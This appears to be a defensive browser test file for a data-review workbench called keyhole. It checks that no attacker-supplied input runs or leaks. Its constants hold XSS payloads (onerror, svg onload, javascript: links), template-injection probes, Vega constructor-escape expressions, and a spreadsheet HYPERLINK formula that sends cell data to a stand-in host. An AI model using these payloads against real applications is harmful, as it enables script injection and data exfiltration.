"""Names, values, texts and stored files that attack whoever looks at them, in a real browser."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from playwright.sync_api import BrowserContext, Page, expect
from tests.browser import SECONDS, Watched, chromium, serving
from tests.workbench import Workbench, start, write_people
from tests.workbench_environment import small_environment

import keyhole
from keyhole.environment import write_environment
from keyhole.errors import FileError
from keyhole.reviews.store import digest, to_json
from keyhole.workbench.jobs import work
from keyhole.workbench.pages import PAGES
from keyhole.workbench.state import WorkbenchState
from keyhole.workbench.stored_results import VERIFICATION, verify_and_keep

# A script, markup, a Vega expression, a template, a formula: each would leave a mark if it ran.
TAG = "</script></title></textarea><img src=x onerror=window.ran=1>"
QUOTE = "\"'><svg/onload=window.ran=2>\\"
VEGA = "datum['a'].b[0]:Q"
TEMPLATE = "{{7*7}}${window.ran=3}<%=7*7%>"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")|'
LINK = "javascript:window.ran=4//http://elsewhere.example"
COLUMNS = {"id": LINK, "sex": TAG, "age": VEGA, "state": QUOTE, "income": FORMULA}
ELSEWHERE = "http://elsewhere.example/x"
# What the pictures of two pages may ask Vega for: addresses, a link, expressions.
SPECS: dict[str, dict[str, Any]] = {
    "exposure": {
        "$schema": ELSEWHERE,
        "data": {"url": ELSEWHERE},
        "mark": {"type": "image", "url": ELSEWHERE},
        "encoding": {"x": {"field": "a", "type": "quantitative"}, "url": {"value": ELSEWHERE}},
    },
    "uniques": {
        "data": {"values": [{"a": 1}]},
        "width": 200,
        "height": 200,
        "mark": {"type": "rect", "href": ELSEWHERE, "tooltip": {"content": "data"}},
    },
    "paths": {
        "title": {"text": {"expr": "window.ran = 5"}},
        "data": {"values": [{"a": 1}]},
        "mark": "point",
    },
    "proposal": {
        "params": [{"name": "p", "expr": "[].constructor.constructor('window.ran = 6')()"}],
        "data": {"values": [{"a": 1}]},
        "transform": [{"calculate": "constructor.constructor('window.ran = 7')()", "as": "b"}],
        "mark": "point",
        "encoding": {"x": {"field": "b"}},
    },
}


def _toml(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


def _review() -> str:
    keys = _toml([TAG, VEGA, QUOTE])
    labels = "\n".join(f"{_toml(name)} = {_toml(TAG + name)}" for name in COLUMNS.values())
    return f"""\
title = {_toml(TAG + TEMPLATE)}
keys = {keys}
[data]
file = "people.csv"
[data.roles]
{_toml(LINK)} = "identifier"
[data.labels]
{labels}
[release]
product = "protection"
to = {_toml(TAG)}
purpose = {_toml(QUOTE)}
version = {_toml(TEMPLATE)}
contact = {_toml(LINK)}
conditions = [{_toml(TAG)}]
notes = [{_toml(TEMPLATE + TAG)}]
board = [{_toml(QUOTE)}]
[environment]
store = "environment.json"
scenarios = [{_toml(TAG)}, {_toml(QUOTE)}]
[screen]
[exposure]
limit = 0.1
by = {_toml(TAG)}
[uniques]
[selection]
keep = [{_toml(TAG)}]
candidates = [{_toml(VEGA)}, {_toml(QUOTE)}]
limit = 0.5
[protection]
[[protection.step]]
method = "suppress"
keys = {keys}
k = 2
[study]
eif = "external.csv"
iuf = "truth.csv"
puf_id = {_toml(LINK)}
eif_id = "their id"
link = {_toml([VEGA, QUOTE])}
strata = [{_toml(TAG)}]
permutations = 10
"""


def _world(folder: Path) -> None:
    """Write people whose columns and values are attacks, with an environment of the same kind."""
    values = {"f": TAG, "m": TEMPLATE, "MD": FORMULA, "VA": QUOTE, "DC": VEGA}
    people = pl.read_csv(write_people(folder, 80))
    people = people.with_columns(pl.col("sex", "state").replace(values)).rename(COLUMNS)
    people.write_csv(folder / "people.csv")
    people.rename({LINK: "their id"}).write_csv(folder / "external.csv")
    same = people.select(pl.col(LINK), pl.col(LINK).alias("their id"))
    same.write_csv(folder / "truth.csv")
    (folder / "review.toml").write_text(_review())
    write_environment(small_environment(), folder / "environment.json")
    words = {**COLUMNS, **values, "Shop card": TAG, "Club": QUOTE, "Shop": TEMPLATE, "shop": TAG,
             "A shop": TAG, "friend": QUOTE, "A friend": TEMPLATE, "sales": LINK, "Sex": TAG,
             "people": TEMPLATE, "State": QUOTE}  # fmt: skip
    environment = json.loads((folder / "environment.json").read_text())
    (folder / "environment.json").write_text(json.dumps(_said(environment, words)))


def _said(value: Any, words: dict[str, str]) -> Any:
    """Say one thing in place of another, wherever it stands."""
    if isinstance(value, dict):
        return {words.get(name, name): _said(one, words) for name, one in value.items()}
    if isinstance(value, list):
        return [_said(one, words) for one in value]
    return words.get(value, value) if isinstance(value, str) else value


def _tamper(results: Path) -> None:
    """Put attacks into every text of the stored tables and every picture, and mend the hashes."""
    for path in (results / "stages").glob("*.json"):
        record = json.loads(path.read_text())
        record["title"] = TAG
        for table in record["tables"]:
            table |= {"title": TAG, "notes": [TEMPLATE, LINK]}
            table["rows"] = [[QUOTE for _ in row] for row in table["rows"]]
        record["sha256"] = digest([record["result"], record["tables"]])
        path.write_text(to_json(record))
    for name, spec in SPECS.items():
        (results / "charts" / f"{name}.json").write_text(json.dumps(spec))


def _visit(page: Page, address: str, *, drawn: bool) -> None:
    """Look at a page until its pictures are drawn or given up, and see that nothing in it ran."""
    page.goto(address)
    pictures = page.locator("figure[data-chart]").count()
    if drawn:
        expect(page.locator("figure canvas")).to_have_count(pictures)
    elif pictures:
        page.wait_for_timeout(500)
    assert page.evaluate("window.ran") is None
    assert page.locator("img[src='x'], [onerror], svg[onload]").count() == 0
    assert "49" not in page.locator("h1, .reviewed, td, th").all_inner_texts()


def _go_through(context: BrowserContext, addresses: Iterable[str], *, drawn: bool) -> list[str]:
    """Look at pages, and return what the policy had to stop."""
    stopped: list[str] = []
    page = context.new_page()
    page.expose_function("stopped", lambda address: stopped.append(address))
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation',"
        " event => window.stopped(event.blockedURI))"
    )
    for address in addresses:
        _visit(page, address, drawn=drawn)
    page.close()
    return stopped


def _click_on_pictures(context: BrowserContext, address: str) -> None:
    page = context.new_page()
    _visit(page, address, drawn=False)
    for picture in page.locator("figure canvas").all():
        picture.click()
    page.wait_for_timeout(300)
    assert page.url == address
    page.close()
    assert len(context.pages) == 1, "no window opened"


def test_nothing_that_was_given_runs_or_leaves(tmp_path: Path) -> None:
    _world(tmp_path)
    results = tmp_path / "review"
    keyhole.review(tmp_path / "review.toml", out=results)
    watched = Watched()
    with serving(tmp_path) as server, chromium() as browser:
        context = browser.new_context(reduced_motion="reduce")
        context.set_default_timeout(SECONDS * 1000)
        watched.watch(context)
        context.new_page().goto(server.link)
        context.pages[0].click("text=review.toml")
        project = f"{server.origin}/project/1"
        pages = {one.name: f"{project}/{one.name}?values=shown" for one in PAGES}
        papers = [f"{project}/file/report.html", f"{project}/file/public-note.html"]
        alone = [path.as_uri() for path in results.glob("*.html")]
        every = [server.origin, *pages.values(), *papers, *alone]
        assert _go_through(context, every, drawn=True) == [], "nothing comes as far as the policy"
        assert watched.errors == []
        _tamper(results)
        keyhole.report(results)
        again = [pages[name] for name in ("exposure", "select", "dossier")]
        assert _go_through(context, [*again, papers[0], *alone], drawn=False) == []
        _click_on_pictures(context, pages["exposure"])
        context.close()
    assert all("404" in told for told in watched.errors), "specs with addresses are not served"
    assert set(watched.outside) == set(alone)


@pytest.fixture
def bench(tmp_path: Path, plain_charts: None) -> Workbench:  # noqa: ARG001
    """A workbench whose review was run and verified."""
    found = start(tmp_path)
    keyhole.review(tmp_path / "review.toml", out=found.project.results)
    verify_and_keep(found.project.path, {}, lambda _: None)
    return found


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("results.json", "[" * 100_000),
        ("results.json", "{}"),
        ("results.json", '{"review": 1, "files": 2, "versions": 3, "sha256": 4}'),
        (VERIFICATION, "[" * 100_000),
        (VERIFICATION, '{"of": "x", "same": true, "figures": "x", "tables": 5}'),
    ],
)
def test_a_dossier_that_was_tampered_with_is_told_of(
    bench: Workbench, name: str, content: str
) -> None:
    (bench.project.results / name).write_text(content)
    page = bench.get("dossier")
    assert page.status_code == 200
    assert "was changed after keyhole wrote it" in page.text
    assert name in page.text
    assert "Run the whole review" in page.text
    assert str(bench.folder) not in page.text


def test_figures_that_were_edited_are_told_of(bench: Workbench) -> None:
    path = bench.project.results / "results.json"
    assert "was changed after keyhole wrote it" not in bench.get("dossier").text
    path.write_text(path.read_text().replace('"title": "A', '"title": "B', 1))
    assert "its hash does not match" in bench.get("dossier").text


def test_results_that_are_a_link_are_neither_read_nor_written(bench: Workbench) -> None:
    results = bench.project.results
    elsewhere = bench.folder.parent / f"{bench.folder.name}-elsewhere"
    results.rename(elsewhere)
    results.symlink_to(elsewhere)
    before = sorted(path.stat().st_mtime_ns for path in elsewhere.rglob("*"))
    assert {one.state for one in bench.project.look().standings.values()} <= {"absent", "unasked"}
    page = bench.get("dossier")
    assert "must be a folder of its own" in page.text
    assert "Versions and hashes" not in page.text
    for kind in ("review", "verify"):
        job = _job(bench, kind)
        assert job.state == "failed"
        assert "Got a link instead" in job.problem
    assert sorted(path.stat().st_mtime_ns for path in elsewhere.rglob("*")) == before


def _job(bench: Workbench, kind: str) -> Any:
    """Do a job here and now, as its process would."""
    state = bench.bench.jobs.state
    with state.changing() as database:
        number = database.execute(
            "INSERT INTO jobs (project, kind, asked, state, step, started, problem) "
            "VALUES (?, ?, '{}', 'running', '', unixepoch(), '')",
            [bench.project.number, kind],
        ).lastrowid
    assert number is not None
    work(state, number, bench.project.path)
    return bench.bench.jobs.find(number)


@pytest.mark.parametrize(
    "more",
    [
        {"data": {"url": ELSEWHERE}},
        {"layer": [{"mark": {"type": "rule", "href": ELSEWHERE}}]},
        {"usermeta": {"embedOptions": ELSEWHERE}},
        {"deep": [[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]},
    ],
)
def test_pictures_that_lead_elsewhere_are_not_served(
    bench: Workbench, more: dict[str, Any]
) -> None:
    path = bench.project.results / "charts" / "exposure.json"
    harmless = {"mark": "point", "data": {"values": [{"url": 1, "href": None}]}, "title": None}
    path.write_text(json.dumps(harmless))
    assert bench.get("chart/exposure.json").status_code == 200
    path.write_text(json.dumps(harmless | more))
    assert bench.get("chart/exposure.json").status_code == 404


def test_a_memory_of_a_newer_keyhole_or_of_others_is_left_alone(tmp_path: Path) -> None:
    place = tmp_path / ".keyhole" / "workbench.db"
    WorkbenchState.of(tmp_path)
    WorkbenchState.of(tmp_path)  # once more, as any later start
    with sqlite3.connect(place) as database:
        database.execute("PRAGMA user_version = 99")
    database.close()
    with pytest.raises(FileError, match="of a newer keyhole"):
        WorkbenchState.of(tmp_path)
    place.unlink()
    with sqlite3.connect(place) as database:
        database.execute("CREATE TABLE jobs (other)")
    database.close()
    with pytest.raises(FileError, match="no review is lost"):
        WorkbenchState.of(tmp_path)
    place.rename(tmp_path / "mine.db")
    place.symlink_to(tmp_path / "mine.db")
    with pytest.raises(FileError, match="no review is lost"):
        WorkbenchState.of(tmp_path)
